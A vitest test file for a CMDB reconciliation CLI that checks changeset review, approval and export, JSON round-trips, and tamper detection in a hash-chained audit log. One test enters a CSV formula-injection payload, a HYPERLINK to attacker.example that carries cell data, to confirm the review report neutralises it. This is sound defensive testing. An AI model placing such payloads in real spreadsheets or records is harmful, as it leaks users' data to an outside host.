import Database from 'better-sqlite3';
import { spawnSync } from 'node:child_process';
import { existsSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { type AuditEntry, entryHash } from '../../src/audit/audit-log.js';
import { readTree, reconciledWorkspace } from '../changesets/helpers.js';
import { tempDir } from '../helpers/workspace.js';

/**
 * The changeset and audit commands exactly as the issue writes them, run through the bundled CLI
 * (bin/cmdbw.mjs -> dist/cli.mjs, built by test/global-setup.ts) on a reconciled cmdb-sim estate.
 */

const ROOT = path.resolve(__dirname, '../..');

function cmdbw(...args: string[]): { code: number; out: string; err: string } {
  const r = spawnSync(process.execPath, [path.join(ROOT, 'bin/cmdbw.mjs'), ...args], {
    encoding: 'utf8',
    env: { ...process.env, NO_COLOR: '1' },
  });
  return { code: r.status ?? -1, out: r.stdout, err: r.stderr };
}

/** A reconciled workspace file of its own (the workspace is closed: only the CLI touches it). */
async function workspaceFile(): Promise<string> {
  const ws = await reconciledWorkspace();
  const file = ws.path;
  ws.close();
  return file;
}

/** `cmdbw changeset create WS ... --json`: the new changeset's id. */
function create(ws: string, ...args: string[]): { id: number } {
  return JSON.parse(ok(cmdbw('changeset', 'create', ws, ...args, '--json'), 'create').out) as { id: number };
}

/** create --all, review --accept-all, approve: the approved changeset's id. */
function approvedChangeset(ws: string): number {
  const { id } = create(ws, '--all');
  ok(cmdbw('changeset', 'review', ws, String(id), '--accept-all'), 'review');
  ok(cmdbw('changeset', 'approve', ws, String(id)), 'approve');
  return id;
}

function ok(r: { code: number; out: string; err: string }, what: string) {
  expect(r.code, `${what}\n${r.err}`).toBe(0);
  return r;
}

describe('cmdbw changeset (documented forms)', () => {
  it('create --all --json, review --accept-all, approve, export in every format, list, show, validate', async () => {
    const ws = await workspaceFile();
    // Who acts is set per workspace (else the OS user); every audit entry from now on names her.
    ok(cmdbw('config', ws, 'user', 'Ada Lovelace'), 'config user');
    const created = JSON.parse(ok(cmdbw('changeset', 'create', ws, '--all', '--json'), 'create').out) as {
      id: number;
      items: number;
      byKind: Record<string, number>;
    };
    expect(created.id).toEqual(expect.any(Number));
    expect(created.items).toBeGreaterThan(100);
    expect(Object.keys(created.byKind).sort()).toEqual(
      [
        'add_relationship',
        'create_ci',
        'flag_for_verification',
        'merge_duplicates',
        'remove_relationship',
        'repoint_relationship',
        'retire_ci',
        'set_owner',
        'set_support_group',
        'update_attribute',
      ].sort(),
    );
    const id = String(created.id);

    // Exporting before approval is refused, and says why.
    const early = cmdbw(
      'changeset',
      'export',
      ws,
      id,
      '--format',
      'json',
      '--out',
      path.join(tempDir(), 'x'),
    );
    expect(early.code).not.toBe(0);
    expect(early.err).toMatch(/approve|pending/i);

    const review = ok(cmdbw('changeset', 'review', ws, id, '--accept-all'), 'review');
    expect(review.out).toMatch(/pending -> accepted: items 1-/);
    const approve = ok(cmdbw('changeset', 'approve', ws, id), 'approve');
    expect(approve.out).toMatch(
      /^Approved revision 1 of changeset \d+: \d+ item\(s\) to export.*Content hash [0-9a-f]{64}/,
    );

    const list = JSON.parse(ok(cmdbw('changeset', 'list', ws, '--json'), 'list').out) as {
      id: number;
      state: string;
      contentHash: string;
      items: { pending: number };
    }[];
    expect(list).toEqual([
      expect.objectContaining({
        id: created.id,
        state: 'approved',
        contentHash: expect.stringMatching(/^[0-9a-f]{64}$/),
      }),
    ]);
    expect(list[0]!.items.pending).toBe(0);
    const show = JSON.parse(ok(cmdbw('changeset', 'show', ws, id, '--json'), 'show').out) as {
      total: number;
      items: { seq: number; status: string }[];
    };
    expect(show.total).toBe(created.items);
    expect(show.items.every((it) => it.status === 'accepted' || it.status === 'rejected')).toBe(true);
    expect(ok(cmdbw('changeset', 'show', ws, id), 'show (text)').out).toMatch(
      /Revision 1 of 1, approved by Ada Lovelace/,
    );
    const validate = JSON.parse(
      ok(cmdbw('changeset', 'validate', ws, id, '--included', '--json'), 'validate').out,
    ) as {
      errors: number;
    };
    expect(validate.errors).toBe(0);

    const contentHash = list[0]!.contentHash;
    for (const format of ['servicenow-ire', 'servicenow-csv', 'itop-csv', 'json']) {
      const out = path.join(tempDir(), format);
      const r = ok(cmdbw('changeset', 'export', ws, id, '--format', format, '--out', out), format);
      expect(r.out).toMatch(
        new RegExp(`^Exported [\\d,]+ item\\(s\\) of changeset ${id} revision 1 as ${format}`),
      );
      const tree = readTree(out);
      const manifest = JSON.parse(tree.get('manifest.json')!.toString()) as {
        exportFormat: string;
        changeset: { contentHash: string };
      };
      expect(manifest).toMatchObject({ exportFormat: format, changeset: { contentHash } });
      const expected = {
        'servicenow-ire': /^ire\/payload-\d+\.json$/,
        'servicenow-csv': /^import-set\/cmdb_ci_\w+\.csv$/,
        'itop-csv': /^itop\/\w+\.csv$/,
        json: /^changeset\.json$/,
      }[format]!;
      expect(
        [...tree.keys()].some((p) => expected.test(p)),
        `${format}: ${[...tree.keys()].join(' ')}`,
      ).toBe(true);
      expect([...tree.keys()].some((p) => p.startsWith('inverse/'))).toBe(true);
    }

    // Every step is in the trail, and the trail is intact.
    const verify = ok(cmdbw('audit', 'verify', ws), 'audit verify');
    expect(verify.out).toMatch(/^Audit trail intact: \d+ entries/);
    const db = new Database(ws, { readonly: true });
    const entries = db.prepare('SELECT actor, action FROM audit_log ORDER BY seq').all() as {
      actor: string;
      action: string;
    }[];
    db.close();
    const actions = entries.map((r) => r.action);
    expect(
      entries.filter((e) => e.action.startsWith('changeset.')).every((e) => e.actor === 'Ada Lovelace'),
    ).toBe(true);
    expect(actions).toEqual(
      expect.arrayContaining([
        'import',
        'reconcile',
        'changeset.create',
        'changeset.review',
        'changeset.approve',
      ]),
    );
    expect(actions.filter((a) => a === 'changeset.export')).toHaveLength(4);
  }, 120_000);

  it('refuses to export pending items unless asked for the accepted ones only', async () => {
    const ws = await workspaceFile();
    const { id } = create(ws, '--category', 'attribute_conflict');
    ok(cmdbw('changeset', 'review', ws, String(id), '--item', '1-3', '--accept'), 'review');
    ok(cmdbw('changeset', 'approve', ws, String(id)), 'approve');
    const out = path.join(tempDir(), 'o');
    const exportCsv = (...more: string[]) =>
      cmdbw('changeset', 'export', ws, String(id), '--format', 'servicenow-csv', '--out', out, ...more);
    const refused = exportCsv();
    expect(refused.code).toBe(1);
    expect(refused.err).toMatch(/pending/);
    const r = JSON.parse(ok(exportCsv('--accepted-only', '--json'), 'export').out) as { items: number };
    expect(r.items).toBe(3);
    const manifest = JSON.parse(readFileSync(path.join(out, 'manifest.json'), 'utf8')) as {
      items: { exported: number; pending: number };
    };
    expect(manifest.items.exported).toBe(3);
    expect(manifest.items.pending).toBeGreaterThan(0);
  }, 60_000);

  it('round-trips the JSON format through changeset import: the second export has identical bytes', async () => {
    const a = await workspaceFile();
    const b = await workspaceFile();
    const id = approvedChangeset(a);
    const first = path.join(tempDir(), 'first');
    ok(cmdbw('changeset', 'export', a, String(id), '--format', 'json', '--out', first), 'export');
    const imported = JSON.parse(
      ok(cmdbw('changeset', 'import', b, path.join(first, 'changeset.json'), '--json'), 'import').out,
    ) as {
      id: number;
      state: string;
    };
    expect(imported.state).toBe('approved');
    const second = path.join(tempDir(), 'second');
    ok(
      cmdbw('changeset', 'export', b, String(imported.id), '--format', 'json', '--out', second),
      'export again',
    );
    const x = readFileSync(path.join(first, 'changeset.json'));
    const y = readFileSync(path.join(second, 'changeset.json'));
    expect(y.equals(x)).toBe(true);
  }, 120_000);

  it('writes a formula-safe review report, a separate command from the machine exports', async () => {
    const ws = await workspaceFile();
    const { id } = create(ws, '--category', 'missing_owner');
    const evil = '=HYPERLINK("http://attacker.example/?d="&A1,"open")';
    ok(
      cmdbw('changeset', 'review', ws, String(id), '--item', '1', '--value', evil, '--comment', '@SUM(1+1)'),
      'review',
    );
    ok(cmdbw('changeset', 'review', ws, String(id), '--reject-all'), 'reject the rest');
    ok(cmdbw('changeset', 'approve', ws, String(id)), 'approve');

    const report = path.join(tempDir(), 'report.csv');
    ok(cmdbw('changeset', 'report', ws, String(id), '--out', report), 'report');
    const text = readFileSync(report, 'utf8');
    expect(text.startsWith('\uFEFF"Item","Kind"')).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?d=""&A1,""open"")"`);
    expect(text).toContain(`"'@SUM(1+1)"`);

    const out = path.join(tempDir(), 'sn');
    ok(cmdbw('changeset', 'export', ws, String(id), '--format', 'servicenow-csv', '--out', out), 'export');
    const rows = [...readTree(out)]
      .filter(([p]) => p.startsWith('import-set/cmdb_ci'))
      .map(([, b]) => b.toString());
    // The load file carries the value exactly (RFC 4180 quoting only): a transform map must get what was approved.
    expect(rows.join('')).toContain(`"=HYPERLINK(""http://attacker.example/?d=""&A1,""open"")"`);
    expect(rows.join('')).not.toContain(`'=HYPERLINK`);
  }, 60_000);
});

describe('cmdbw audit (documented forms)', () => {
  it('verify exits 0 on an intact trail; after a plain-SQL edit, removal or reordering it exits 1 naming the first bad entry', async () => {
    const ws = await workspaceFile();
    approvedChangeset(ws);
    expect(cmdbw('audit', 'verify', ws).code).toBe(0);

    const db = new Database(ws);
    const approval = db
      .prepare("SELECT seq, detail FROM audit_log WHERE action = 'changeset.approve'")
      .get() as {
      seq: number;
      detail: string;
    };
    // Someone rewrites who approved, directly in the database.
    db.prepare("UPDATE audit_log SET actor = 'mallory' WHERE seq = ?").run(approval.seq);
    db.close();
    const edited = cmdbw('audit', 'verify', ws);
    expect(edited.code).toBe(1);
    expect(edited.err).toMatch(
      new RegExp(`audit trail broken at entry ${approval.seq}: entry ${approval.seq} was altered`),
    );
    const json = cmdbw('audit', 'verify', ws, '--json');
    expect(json.code).toBe(1);
    expect(JSON.parse(json.out)).toMatchObject({ ok: false, firstBad: approval.seq });
  }, 60_000);

  it('detects a removed entry and a reordered pair, even with hashes recomputed by hand', async () => {
    const ws = await workspaceFile();
    const { id } = create(ws, '--all');
    ok(cmdbw('changeset', 'review', ws, String(id), '--accept-all'), 'review');
    const db = new Database(ws);
    const n = (db.prepare('SELECT count(*) AS n FROM audit_log').get() as { n: number }).n;
    expect(n).toBeGreaterThanOrEqual(4);
    db.prepare('DELETE FROM audit_log WHERE seq = 2').run();
    db.close();
    const removed = cmdbw('audit', 'verify', ws);
    expect(removed.code).toBe(1);
    expect(removed.err).toMatch(/broken at entry 2: entry 2 is missing/);

    const ws2 = await workspaceFile();
    create(ws2, '--all');
    const db2 = new Database(ws2);
    const rows = db2.prepare('SELECT * FROM audit_log ORDER BY seq').all() as AuditEntry[];
    // Swap entries 2 and 3, renumber them and recompute each one's own hash: only the chain can tell.
    const swapped = [rows[0]!, { ...rows[2]!, seq: 2 }, { ...rows[1]!, seq: 3 }];
    const update = db2.prepare(
      'UPDATE audit_log SET at = @at, actor = @actor, action = @action, target = @target, detail = @detail, prev_hash = @prev_hash, hash = @hash WHERE seq = @seq',
    );
    for (const r of swapped.slice(1)) {
      const { hash: _old, ...rest } = r;
      update.run({ ...r, hash: entryHash(rest) });
    }
    db2.close();
    const reordered = cmdbw('audit', 'verify', ws2);
    expect(reordered.code).toBe(1);
    expect(reordered.err).toMatch(/broken at entry 2: entry 2 does not follow entry 1/);
  }, 60_000);

  it('export writes the trail as JSON (verifiable) and CSV next to the workspace', async () => {
    const ws = await workspaceFile();
    create(ws, '--all');
    const r = ok(cmdbw('audit', 'export', ws), 'audit export');
    const dir = path.join(path.dirname(ws), 'ws-audit');
    expect(r.out).toContain(dir);
    expect(existsSync(path.join(dir, 'audit-log.csv'))).toBe(true);
    const doc = JSON.parse(readFileSync(path.join(dir, 'audit-log.json'), 'utf8')) as {
      format: string;
      verification: { ok: boolean };
      entries: { seq: number; hash: string; prev_hash: string }[];
    };
    expect(doc.format).toBe('cmdbw-audit');
    expect(doc.verification.ok).toBe(true);
    // Anyone can recompute the chain from the file alone.
    let prev = '0'.repeat(64);
    for (const e of doc.entries) {
      const { hash, ...rest } = e as Parameters<typeof entryHash>[0] & { hash: string };
      expect(e.prev_hash).toBe(prev);
      expect(entryHash(rest)).toBe(hash);
      prev = hash;
    }
    const csv = readFileSync(path.join(dir, 'audit-log.csv'), 'utf8').split('\r\n');
    expect(csv[0]).toBe('\uFEFF"seq","at","actor","action","target","detail","prev_hash","hash"');
    expect(csv.filter(Boolean)).toHaveLength(doc.entries.length + 1);

    const custom = path.join(tempDir(), 'trail');
    const j = JSON.parse(
      ok(cmdbw('audit', 'export', ws, '--out', custom, '--json'), 'audit export --out').out,
    ) as {
      entries: number;
    };
    // The first export is itself in the trail now.
    expect(j.entries).toBe(doc.entries.length + 1);
  }, 60_000);
});
